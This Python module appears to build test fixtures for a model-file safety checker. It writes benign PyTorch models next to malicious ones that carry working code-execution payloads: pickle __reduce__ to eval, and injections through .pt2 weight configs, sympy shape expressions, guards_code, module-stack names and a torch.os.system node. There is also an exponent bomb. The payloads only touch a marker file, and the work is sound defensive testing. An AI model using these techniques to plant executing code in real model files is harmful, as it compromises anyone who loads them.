"""Write malicious (and benign) model-file fixtures for testing ``model_files.check_file_safe``.

Every evil payload, if torch ever executes it, creates the file ``marker`` (via ``pathlib.Path.touch``
reached through ``builtins.eval``) -- so a test can prove both that torch *does* run it on a plain load
and that the checker refuses the file *before* anything is loaded. Payloads return a tensor of the
right shape, so a victim load succeeds silently, as a real attack would.
"""

from __future__ import annotations

import io
import json
import pickle
import shutil
import zipfile
from pathlib import Path

import torch
from torch import nn


class TinyNet(nn.Module):
    def __init__(self):
        super().__init__()
        self.l = nn.Linear(4, 3)
        self.register_buffer("b", torch.ones(3))

    def forward(self, x):
        return self.l(x) + self.b


class _Payload:
    """Unpickles to ``eval(code)``: touches ``marker`` then yields ``result_expr`` (a tensor)."""

    def __init__(self, marker, result_expr="__import__('torch').zeros(3, 4)"):
        self.code = f"__import__('pathlib').Path({str(marker)!r}).touch() or {result_expr}"

    def __reduce__(self):
        return (eval, (self.code,))


def _tiny_program():
    torch.manual_seed(0)
    net = TinyNet().eval()
    return torch.export.export(net, (torch.randn(2, 4),), dynamic_shapes=({0: torch.export.Dim("batch")},))


def _rewrite_zip(src, dst, edit):
    """Copy zip ``src`` to ``dst``; ``edit(short_name, data) -> data`` may replace a member's bytes."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            short = info.filename.split("/", 1)[1] if "/" in info.filename else info.filename
            zout.writestr(info.filename, edit(short, zin.read(info.filename)))
    return Path(dst)


def write_benign(folder):
    """state dict, Lightning-style checkpoint, TorchScript, .pt2 -- all must pass the check."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    net = TinyNet().eval()
    torch.save(net.state_dict(), folder / "state_dict.pt")
    torch.save(net.state_dict(), folder / "legacy_state_dict.pt", _use_new_zipfile_serialization=False)
    torch.save(
        {
            "epoch": 3,
            "global_step": 120,
            "pytorch-lightning_version": "2.4.0",
            "state_dict": net.state_dict(),
            "hyper_parameters": {
                "lr": 1e-3,
                "name": "tiny",
                "layers": [4, 3],
                "dropout": 0.1,
                "flags": {"bn": True},
                "shape": (1, 4),
            },
            "optimizer_states": [],
            "lr_schedulers": [],
        },
        folder / "lightning.ckpt",
    )
    torch.jit.save(torch.jit.script(net), folder / "scripted.pt")
    torch.export.save(_tiny_program(), folder / "exported.pt2")
    return folder


def evil_state_dict(folder, marker):
    """A torch.save file whose dict holds an object whose ``__reduce__`` runs code (classic pickle RCE)."""
    path = Path(folder) / "evil_state_dict.pt"
    sd = TinyNet().state_dict()
    sd["l.weight"] = _Payload(marker)
    torch.save(sd, path)
    return path


def evil_export_weight(folder, marker):
    """A real torch.export.save archive whose ``l.weight`` payload is swapped for a pickle.

    The weights config is JSON the attacker controls: flipping ``use_pickle`` to true makes
    ``torch/export/pt2_archive/_package.py::_load_state_dict`` call ``torch.load(weights_only=False)``.
    """
    clean = Path(folder) / "_clean_for_weight.pt2"
    torch.export.save(_tiny_program(), clean)
    buf = io.BytesIO()  # returns a Parameter of the right shape, so the victim's load succeeds silently
    torch.save(_Payload(marker, "__import__('torch').nn.Parameter(__import__('torch').zeros(3, 4))"), buf)

    def edit(short, data):
        if short == "data/weights/model_weights_config.json":
            cfg = json.loads(data)
            cfg["config"]["l.weight"]["use_pickle"] = True
            cfg["config"]["l.weight"]["path_name"] = "weight_9"
            return json.dumps(cfg).encode()
        return data

    dst = Path(folder) / "evil_weight.pt2"
    _rewrite_zip(clean, dst, edit)
    root = zipfile.ZipFile(clean).namelist()[0].split("/", 1)[0]
    with zipfile.ZipFile(dst, "a") as z:
        z.writestr(f"{root}/data/weights/weight_9", buf.getvalue())
    clean.unlink()
    return dst


def evil_export_sample_inputs(folder, marker):
    """A .pt2 whose sample inputs (a nested torch.save) hold a pickle payload.

    ``torch/_export/serde/serialize.py::deserialize_torch_artifact`` tries weights_only=True, and on
    failure *falls back to* ``torch.load(weights_only=False)`` -- so the payload runs.
    """
    clean = Path(folder) / "_clean_for_inputs.pt2"
    torch.export.save(_tiny_program(), clean)
    buf = io.BytesIO()
    torch.save(((_Payload(marker, "__import__('torch').zeros(2, 4)"),), {}), buf)
    dst = _rewrite_zip(
        clean,
        Path(folder) / "evil_inputs.pt2",
        lambda s, d: buf.getvalue() if s == "data/sample_inputs/model.pt" else d,
    )
    clean.unlink()
    return dst


def evil_export_sympy(folder, marker):
    """A .pt2 with no pickle at all: a symbolic-shape ``expr_str`` in models/model.json.

    ``GraphModuleDeserializer._parse_sym_expr`` passes it to ``sympy.sympify`` which ``eval``s it.
    """
    clean = Path(folder) / "_clean_for_sympy.pt2"
    torch.export.save(_tiny_program(), clean)
    code = f"__import__('pathlib').Path({str(marker)!r}).touch() or "

    def edit(short, data):
        if short == "models/model.json":
            text = data.decode()
            needle = '"expr_str": "Symbol('
            assert needle in text, "exported program has no symbolic shape"
            return text.replace(needle, '"expr_str": "' + code.replace('"', '\\"') + "Symbol(", 1).encode()
        return data

    dst = _rewrite_zip(clean, Path(folder) / "evil_sympy.pt2", edit)
    clean.unlink()
    return dst


def evil_export_target(folder, marker):
    """A .pt2 whose graph names ``torch.os.system`` as a node target.

    GraphModuleDeserializer.deserialize_operator resolves any getattr chain from ``torch``/``math``/
    ``_operator`` and deserialize_node accepts any callable. NOT confirmed exploitable: in this crude form
    torch 2.13 fails the load (SpecViolationError "missing val"), so no marker; the checker refuses it anyway.
    """
    clean = Path(folder) / "_clean_for_target.pt2"
    torch.export.save(_tiny_program(), clean)

    def edit(short, data):
        if short != "models/model.json":
            return data
        program = json.loads(data)
        nodes = program["graph_module"]["graph"]["nodes"]
        nodes.insert(
            0,
            {
                "target": "torch.os.system",
                "name": "pwn",
                "inputs": [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}],
                "outputs": [],
                "metadata": {},
                "is_hop_single_tensor_return": None,
            },
        )
        return json.dumps(program).encode()

    dst = _rewrite_zip(clean, Path(folder) / "evil_target.pt2", edit)
    clean.unlink()
    return dst


def renamed(path, new_name="weights.pt"):
    """The same bytes under an innocent name: routing is by content, so this must be refused too."""
    dst = Path(path).with_name(new_name)
    shutil.copyfile(path, dst)
    return dst


def tampered_torchscript(folder, marker):
    """A TorchScript archive whose constants.pkl names ``builtins.eval``.

    torch.jit.load's C++ unpickler (torch/csrc/jit/serialization/unpickler.cpp, readGlobal) only knows a
    fixed set of torch names plus ``__torch__.*`` TorchScript classes, so this fails with
    "Unknown type name '__builtin__.eval'" and runs nothing; the checker refuses it as tampered.
    """
    clean = Path(folder) / "_clean_ts.pt"
    torch.jit.save(torch.jit.script(TinyNet().eval()), clean)
    evil = pickle.dumps((_Payload(marker),), protocol=2)
    dst = _rewrite_zip(clean, Path(folder) / "tampered_scripted.pt", lambda s, d: evil if s == "constants.pkl" else d)
    clean.unlink()
    return dst


def write_damaged(folder):
    """Files that are not (whole) models: each must get its own plain-English message."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "empty.pt").write_bytes(b"")
    (folder / "text.pt").write_text("this is a README, not a model\n")
    (folder / "lfs.pt").write_text(
        "version https://git-lfs.github.com/spec/v1\noid sha256:" + "0" * 64 + "\nsize 12345\n"
    )
    (folder / "random.pt").write_bytes(bytes(range(256)) * 8)
    torch.save(TinyNet().state_dict(), folder / "_whole.pt")
    whole = (folder / "_whole.pt").read_bytes()
    (folder / "truncated.pt").write_bytes(whole[: len(whole) // 2])
    (folder / "_whole.pt").unlink()
    return folder


# ---- round two (issue 16): attacks on what a .pt2 may contain; each must be refused by positive validation ----


def _edit_program(folder, name, edit_json, add=None):
    """A clean dynamic-batch .pt2 with models/model.json passed through ``edit_json(dict)`` and members ``add``."""
    clean = Path(folder) / f"_clean_{name}"
    torch.export.save(_tiny_program(), clean)

    def edit(short, data):
        if short == "models/model.json" and edit_json is not None:
            program = json.loads(data)
            edit_json(program)
            return json.dumps(program).encode()
        return data

    dst = _rewrite_zip(clean, Path(folder) / name, edit)
    if add:
        root = zipfile.ZipFile(clean).namelist()[0].split("/", 1)[0]
        with zipfile.ZipFile(dst, "a") as z:
            for short, data in add.items():
                z.writestr(f"{root}/{short}", data)
    clean.unlink()
    return dst


def evil_export_opaque_nested(folder, marker):
    """A constants entry whose path has a folder in it (``opaque_obj_0/p``): torch's ``_load_constants``
    sees the ``opaque_obj_`` prefix and calls ``pickle.loads`` on it. The first-round scanner only looked at
    the last path part (``p``) and let it through."""
    clean = Path(folder) / "_clean_opaque.pt2"
    torch.export.save(_tiny_program(), clean)
    evil = pickle.dumps(_Payload(marker), protocol=2)

    def edit(short, data):
        if short == "data/constants/model_constants_config.json":
            cfg = json.loads(data)
            cfg["config"]["hidden"] = {
                "path_name": "opaque_obj_0/p",
                "is_param": False,
                "use_pickle": True,
                "tensor_meta": None,
            }
            return json.dumps(cfg).encode()
        return data

    dst = _rewrite_zip(clean, Path(folder) / "evil_opaque.pt2", edit)
    root = zipfile.ZipFile(clean).namelist()[0].split("/", 1)[0]
    with zipfile.ZipFile(dst, "a") as z:
        z.writestr(f"{root}/data/constants/opaque_obj_0/p", evil)
    clean.unlink()
    return dst


def evil_export_guards(folder, marker):
    """``guards_code`` in models/model.json: ``ExportedProgram.module()`` compiles it (``exec``) into a
    ``_guards_fn`` that runs on every forward pass. No pickle, no shape expression involved."""
    code = f"__import__('pathlib').Path({str(marker)!r}).touch() is None"
    return _edit_program(folder, "evil_guards.pt2", lambda p: p.__setitem__("guards_code", [code]))


def evil_export_exponent_bomb(folder, marker):
    """A shape expression that is plain arithmetic but ``sympify`` evaluates ``10**10**9`` (hangs, eats
    memory). Must be refused without ever reaching sympy."""

    def edit(program):
        sizes = program["graph_module"]["graph"]["tensor_values"]
        for meta in sizes.values():
            for size in meta["sizes"]:
                if "as_expr" in size:
                    size["as_expr"]["expr_str"] += "+10**10**9"
                    return
        raise AssertionError("exported program has no symbolic size")

    return _edit_program(folder, "evil_bomb.pt2", edit)


def evil_export_unknown_member(folder, marker):
    """A member a plain torch.export.save never writes (here a stray pickle under data/)."""
    return _edit_program(
        folder,
        "evil_unknown_member.pt2",
        None,
        add={"data/extra_state.pkl": pickle.dumps(_Payload(marker), protocol=2)},
    )


def evil_export_module_stack(folder, marker):
    """An ``nn_module_stack`` path with a quote in it: a layer name becomes a module name in generated Python
    (torch.fx writes ``getattr(self, "<name>")`` for names that are not identifiers), so tapping that layer
    would write ``getattr(self, "x" if exec(bytes([...])) else "l")`` and run it. No dots, no top-level commas:
    it survives torch's own metadata parsing."""
    code = list(f"__import__('pathlib').Path({str(marker)!r}).touch()".encode())
    path = f'x" if exec(bytes({code})) else "l'

    def edit(program):
        for node in program["graph_module"]["graph"]["nodes"]:
            stack = node["metadata"].get("nn_module_stack")
            if stack and ",l," in stack:
                node["metadata"]["nn_module_stack"] = stack.replace(",l,", f",{path},")

    return _edit_program(folder, "evil_module_stack.pt2", edit)
